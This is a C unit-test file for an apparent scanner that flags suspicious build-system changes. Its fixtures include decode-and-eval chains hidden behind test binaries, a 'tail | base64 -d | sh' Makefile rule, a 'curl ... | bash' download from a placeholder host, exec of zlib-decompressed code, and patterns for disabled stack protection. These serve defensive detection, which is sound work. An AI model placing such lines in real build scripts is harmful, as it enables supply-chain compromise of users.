/* SPDX-License-Identifier: Apache-2.0
 * What changes bring and take: terms, flows, test programs, opaque files; and terms carried through deltas. */
#include "source/git/blob_maker.h"
#include "source/git/facts_flow.h"
#include "source/git/facts_opaque.h"

typedef struct {
  const char *path, *text;
  const char *facts; /* values with ';' behind each */
} Case;

static void
append(WhFactKind kind, WhSlice value, gpointer user)
{
  g_string_append_len(user, value.data, (gssize)value.len);
  g_string_append_c(user, ';');
}

static const Case flows[] = {
    {"m4/a.m4", "x=1\necho $x\n", "none;"},
    {"m4/a.m4", "d=`tr 'a' 'b' < tests/files/bad.bin | xz -dc`\neval \"$d\"\n",
     "eval tr+xz line 2 tests/files/bad.bin;"},
    {"build.mk", "all:\n\ttail -c +9 $(srcdir)/tests/p.bin | base64 -d \\\n\t | sh\n",
     "sh tail+base64 line 2 $(srcdir)/tests/p.bin;"},
    {"autogen.sh", "curl -L https://example.org/x.sh | bash\n",
     "download curl line 1 https://example.org/x.sh;sh curl line 1;"},
    {"configure.ac", "eval \"v=\\\"`echo $x | sed s/a/b/`\\\"\"\n", "none;"}, /* what every configure does */
    {"setup.py", "exec(zlib.decompress(b))\nexec(open(n).read())\n",
     "exec zlib line 1;exec decompress line 1;"},
    {"package.json", "{\"scripts\":{\n\"postinstall\": \"node x.js\"}}", "script postinstall: node x.js;"},
    {"CMakeLists.txt", "FetchContent_Declare(x\n  GIT_REPOSITORY https://example.org/x.git)\n",
     "download GIT_REPOSITORY line 2 https://example.org/x.git;"},
    {"CMakeLists.txt",
     "check_c_source_compiles(\"\n#include <a.h>\n.\nint main(void) { return 0; }\n\" HAVE)\n",
     "broken line 3: a lone '.';"},
    {"CMakeLists.txt", "check_c_source_compiles(\"int main(void) { return f(\\\")\\\"); }\" HAVE)\n",
     "none;"},
    {"m4/a.m4", "AC_COMPILE_IFELSE([AC_LANG_PROGRAM([[#include <a.h>]], [[f((1);]])])\n",
     "broken line 1: brackets do not match;"},
    {"m4/a.m4", "AC_COMPILE_IFELSE([AC_LANG_PROGRAM([[#include <a.h>]], [[f(1);]])])\n", "none;"},
    {"meson.build", "cc.compiles('''\nint x;\n,\nint y;\n''')\n", "broken line 3: a lone ',';"},
};

static void
test_flows(void)
{
  for (guint i = 0; i < G_N_ELEMENTS(flows); i++) {
    g_autoptr(GString) got = g_string_new(NULL);
    WhFactOut out;
    wh_fact_out_init(&out, append, got);
    wh_facts_flow(wh_slice_str(flows[i].text), wh_slice_str(flows[i].path), &out);
    wh_fact_out_clear(&out);
    g_test_message("%s", flows[i].text);
    g_assert_cmpstr(got->str, ==, flows[i].facts);
  }
}

static const Case terms[] = {
    {"a.c", "snprintf(a); sprintf (b); x_sprintf(c); /* strcpy(d) */\n", "sprintf=1 snprintf=1;"},
    {"a.c", "int x;\n", "none;"},
    {"a.c", "safe_fprintf(f); fprintf(f);\nprctl(PR_SET_NO_NEW_PRIVS);\n",
     "fprintf=1 safe_=1;no_new_privs=1;"},
    {"a.c",
     "void *f(void) __attribute__((ifunc(\"r\")));\nstatic void __attribute__((constructor)) g(void);\n",
     "ifunc=1 constructor=1;"},
    {"a.c", "/* the constructor of a class */\n", "none;"},
    {"meson.build", "'-fstack-protector-strong', '-Wall'\n# '-fsanitize=address'\n",
     "stack-protector=1 warnings=1;"},
    {"Makefile", "CFLAGS += -fno-stack-protector\n", "off:stack-protector=1;"},
    {".github/workflows/ci.yml", "run: make fuzz || true\n", "off:fuzz=1;"},
    {"README.md", "fuzz", ""},
};

static void
test_terms(void)
{
  g_autoptr(WhTerms) t = wh_terms_new();
  WhTermsRoom *room = wh_terms_room_new(t);
  for (guint i = 0; i < G_N_ELEMENTS(terms); i++) {
    g_autoptr(GString) got = g_string_new(NULL);
    g_autoptr(GArray) hits = g_array_new(FALSE, FALSE, sizeof(WhTermHit));
    WhSlice text = wh_slice_str(terms[i].text);
    guint kind = wh_terms_path(wh_slice_str(terms[i].path));
    WhTermCounts counts;
    WhFactOut out;
    wh_fact_out_init(&out, append, got);
    wh_terms_find(t, room, text, 0, hits);
    wh_terms_count((const WhTermHit *)(gconstpointer)hits->data, hits->len, text, &counts);
    if (kind != 0)
      wh_terms_say(&counts, kind, &out);
    wh_fact_out_clear(&out);
    g_test_message("%s", terms[i].text);
    g_assert_cmpstr(got->str, ==, terms[i].facts);
  }
  wh_terms_room_free(room);
}

static void
check_opaque(const char *path, WhSlice bytes, const char *begins)
{
  g_autoptr(GString) got = g_string_new(NULL);
  WhFactOut out;
  wh_fact_out_init(&out, append, got);
  wh_facts_opaque(bytes, wh_slice_str(path), &out);
  wh_fact_out_clear(&out);
  g_test_message("%s: %s", path, got->str);
  g_assert_true(begins != NULL ? g_str_has_prefix(got->str, begins) : got->len == 0);
}

static void
test_opaque(void)
{
  char noise[512];
  for (guint i = 0; i < sizeof noise; i++)
    noise[i] = (char)(i * 167 + i / 7);
  check_opaque("tests/a.xz", wh_slice(noise, sizeof noise), "xz broken ");
  check_opaque("tests/a", wh_slice(noise, sizeof noise), "data unknown ");
  check_opaque("tests/a.xz", WH_SLICE("plain text under another name\n"), NULL);
  check_opaque("a.png", wh_slice(noise, sizeof noise), "png broken ");
  memcpy(noise,
         "\xfd"
         "7zXZ\0\0\4\xe6\xd6\xb4\x46",
         12); /* the sound head of a stream that never ends */
  check_opaque("tests/a.xz", wh_slice(noise, sizeof noise), "xz cut ");
  memcpy(noise, "\x1f\x8b\x08\0", 4);
  check_opaque("tests/a.gz", wh_slice(noise, sizeof noise), "gzip sealed ");
  check_opaque("lib/a.gz", wh_slice(noise, sizeof noise), NULL);
  check_opaque("empty.bin", wh_slice(noise, 0), NULL);
  g_assert_false(wh_facts_opaque_path(WH_SLICE("src/a.c")));
  g_assert_false(wh_facts_opaque_path(WH_SLICE("doc/a.md")));
  g_assert_true(wh_facts_opaque_path(WH_SLICE("tests/a.lzma")));
}

/* A delta that copies and inserts at random; pieces of terms meet at its seams. */
static WhMadeBlob *
random_delta(GRand *random, WhBlobMaker *maker, const WhMadeBlob *base)
{
  static const char *const pieces[] = {"snpr", "intf(", "sprintf(a)", "\n", "eval ", "land", "lock ", " x "};
  g_autoptr(GByteArray) delta = g_byte_array_new(), ops = g_byte_array_new();
  gsize size = 0;
  for (guint n = (guint)g_rand_int_range(random, 1, 12); n > 0; n--) {
    if (base->len > 0 && g_rand_boolean(random)) {
      guint8 from = (guint8)g_rand_int_range(random, 0, (gint32)MIN(base->len, 250));
      guint8 len = (guint8)g_rand_int_range(random, 1, (gint32)MIN(base->len - from, 120) + 1);
      const guint8 op[] = {0x80 | 0x01 | 0x10, from, len};
      g_byte_array_append(ops, op, sizeof op);
      size += len;
      continue;
    }
    const char *piece = pieces[g_rand_int_range(random, 0, G_N_ELEMENTS(pieces))];
    const guint8 len = (guint8)strlen(piece);
    g_byte_array_append(ops, &len, 1);
    g_byte_array_append(ops, (const guint8 *)piece, len);
    size += len;
  }
  for (guint i = 0; i < 2; i++) {
    gsize value = i == 0 ? base->len : size;
    const guint8 bytes[] = {(guint8)(0x80 | (value & 0x7f)), (guint8)(value >> 7)};
    g_byte_array_append(delta, bytes, 2);
  }
  g_byte_array_append(delta, ops->data, ops->len);
  return wh_blob_maker_delta(maker, base, wh_slice((const char *)delta->data, delta->len), 1u << 20);
}

/* What is carried through deltas is what a search of the whole finds. */
static void
test_carried(void)
{
  g_autoptr(WhTerms) t = wh_terms_new();
  WhBlobMaker *maker = wh_blob_maker_new(t);
  GRand *random = g_rand_new_with_seed(7);
  for (guint round = 0; round < 200; round++) {
    WhMadeBlob *blob = wh_blob_maker_whole(maker, (const guint8 *)"snprintf(x); landlock", 21);
    for (guint depth = 0; depth < 10; depth++) {
      WhMadeBlob *next = random_delta(random, maker, blob);
      g_assert_nonnull(next);
      WhMadeBlob *whole = wh_blob_maker_whole(maker, next->data, next->len);
      g_assert_cmpuint(next->n_hits, ==, whole->n_hits);
      for (guint i = 0; i < whole->n_hits; i++) {
        g_assert_cmpuint(next->hits[i].at, ==, whole->hits[i].at);
        g_assert_cmpuint(next->hits[i].term, ==, whole->hits[i].term);
      }
      wh_made_blob_free(whole);
      wh_made_blob_free(blob);
      blob = next;
    }
    wh_made_blob_free(blob);
  }
  g_rand_free(random);
  wh_blob_maker_free(maker);
}

/* A line of 10 MB, and brackets without end, take no longer than they are long. */
static void
test_long(void)
{
  gsize len = 10u << 20;
  g_autofree char *line = g_malloc(len);
  static const char *const fills[] = {"$(", "a ", "AC_LANG_PROGRAM([[", "eval $x|", "x=$x "};
  gint64 begin = g_get_monotonic_time();
  for (guint f = 0; f < G_N_ELEMENTS(fills); f++) {
    g_autoptr(GString) got = g_string_new(NULL);
    WhFactOut out;
    for (gsize i = 0; i < len; i++)
      line[i] = fills[f][i % strlen(fills[f])];
    wh_fact_out_init(&out, append, got);
    wh_facts_flow(wh_slice(line, len), WH_SLICE("a.m4"), &out);
    wh_fact_out_clear(&out);
  }
  g_assert_cmpint(g_get_monotonic_time() - begin, <, 60 * G_USEC_PER_SEC);
}

int
main(int argc, char **argv)
{
  g_test_init(&argc, &argv, NULL);
  g_test_add_func("/change-facts/flows", test_flows);
  g_test_add_func("/change-facts/terms", test_terms);
  g_test_add_func("/change-facts/opaque", test_opaque);
  g_test_add_func("/change-facts/carried", test_carried);
  g_test_add_func("/change-facts/long", test_long);
  return g_test_run();
}
